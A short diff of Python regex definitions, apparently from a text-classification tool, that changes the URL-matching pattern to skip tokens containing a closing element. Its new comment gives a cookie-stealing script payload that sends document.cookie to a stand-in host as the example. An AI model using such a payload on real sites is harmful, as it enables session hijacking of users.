@@ -28,7 +28,9 @@ _NOTE_LINES = re.compile(r"^[ \t]*# [^\n]*$", re.M)
 _COMMENT_LINES = re.compile(r"^[ \t]*<!--[^\n]*-->[ \t]*$", re.M)
 # JavaScript's template literal, `$(\`<div>...</div>\`)`: a page built in a string (cut by the sample maybe).
 _TEMPLATE_LITERAL = re.compile(r"`[^`]*(?:`|\Z)")
-_ADDRESS_FORM = re.compile(r"\S*://\S*")  # `<scheme>://<user>@<host>:<port>/<path>`: a URL's parts named
+# `<scheme>://<user>@<host>:<port>/<path>`: a URL's parts named (no element closed in it, as a
+# script's is: `<script>location='https://x/?'.concat(document.cookie)</script>`)
+_ADDRESS_FORM = re.compile(r"(?!\S*</)\S*://\S*")
 
 
 def _without_comment_lines(code):
